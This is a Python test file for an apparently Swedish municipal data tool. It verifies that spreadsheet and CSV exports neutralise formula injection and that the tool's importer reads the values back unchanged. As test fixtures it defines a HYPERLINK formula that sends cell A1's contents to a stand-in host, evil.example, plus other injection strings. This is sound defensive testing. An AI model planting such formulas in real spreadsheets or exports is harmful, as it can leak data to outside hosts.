"""Exports never carry a live formula: text cells starting with =, +, -, @, tab or CR are neutralised
in CSV and Excel, and read back unchanged by lagesbild's own importer."""

from __future__ import annotations

import openpyxl
import pandas as pd
import pytest

from lagesbild.prevention import io, registry
from lagesbild.safecells import neutralise, neutralise_frame, restore

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'


@pytest.mark.parametrize("value", [EVIL, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"])
def test_executable_texts_get_an_apostrophe(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["-5", "+46 70 123", "-1,5", "-", "..", "Rinkeby", "", 3, -5.0, None,
                                   "'quoted"])
def test_harmless_values_are_unchanged(value):
    assert neutralise(value) == value
    assert restore(value) == value


def test_frame_columns_and_numbers():
    df = pd.DataFrame({"=namn": [EVIL, "ok"], "n": [-1, 2]})
    out = neutralise_frame(df)
    assert list(out.columns) == ["'=namn", "n"]
    assert out["'=namn"].tolist() == ["'" + EVIL, "ok"]
    assert out["n"].tolist() == [-1, 2] and df.iloc[0, 0] == EVIL  # the input is not changed


@pytest.fixture
def evil_items(kommun_store, insats):
    registry.create(kommun_store, insats(id="0127-evil", name=EVIL, notes="@SUM(1)"), "anna")
    return registry.list_insatser(kommun_store)


def test_insats_excel_export_holds_text_not_a_formula(evil_items, tmp_path):
    path = tmp_path / "insatser.xlsx"
    io.export_insatser(evil_items, path)
    ws = openpyxl.load_workbook(path)["Insatser"]
    headings = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=headings.index("Namn") + 1)
    assert cell.data_type == "s" and cell.value == "'" + EVIL
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    items, _ = io.read_insatser(path)
    assert items[0]["name"] == EVIL and items[0]["notes"] == "@SUM(1)"  # read back unchanged


def test_insats_csv_export_is_inert_and_round_trips(evil_items, tmp_path):
    path = tmp_path / "insatser.csv"
    io.export_insatser(evil_items, path)
    raw = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in raw and ',"=HYPERLINK' not in raw and ",=HYPERLINK" not in raw
    items, _ = io.read_insatser(path)
    assert items[0]["name"] == EVIL


def test_observation_export_neutralises_labels(writable_bundled_store, tmp_path):
    from lagesbild.store.export import export_observations
    from lagesbild.store.importer import import_file

    (tmp_path / "d.csv").write_text("desokod,ar,v\n0114A0010,2024,5\n", encoding="utf-8")
    (tmp_path / "m.yaml").write_text(
        "source: {id: evil_src, publisher: SCB}\narea: {column: desokod, version: DeSO2018}\n"
        "year: {column: ar}\nvalues: {evil_var: v}\n"
        "new_variables:\n  - {id: evil_var, label_sv: '=HYPERLINK(\"http://x\")', kind: count}\n", encoding="utf-8")
    import_file(writable_bundled_store, tmp_path / "d.csv", tmp_path / "m.yaml")
    out = tmp_path / "o.xlsx"
    export_observations(writable_bundled_store, out, fmt="xlsx", variables=["evil_var"])
    ws = openpyxl.load_workbook(out)["observationer"]
    labels = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert labels and all(c.data_type == "s" and c.value.startswith("'=") for c in labels)
    csv_out = tmp_path / "o.csv"
    export_observations(writable_bundled_store, csv_out, fmt="csv", variables=["evil_var"])
    assert "'=HYPERLINK" in csv_out.read_text(encoding="utf-8-sig")


def test_cli_csv_output_is_neutralised(capsys):
    from lagesbild.cli._common import emit

    emit(pd.DataFrame({"namn": [EVIL, "Rinkeby"], "n": [-3, 4]}), "csv")
    out = capsys.readouterr().out
    rows = out.strip().splitlines()
    assert rows[1].startswith("\"'=HYPERLINK") and rows[2] == "Rinkeby,4"
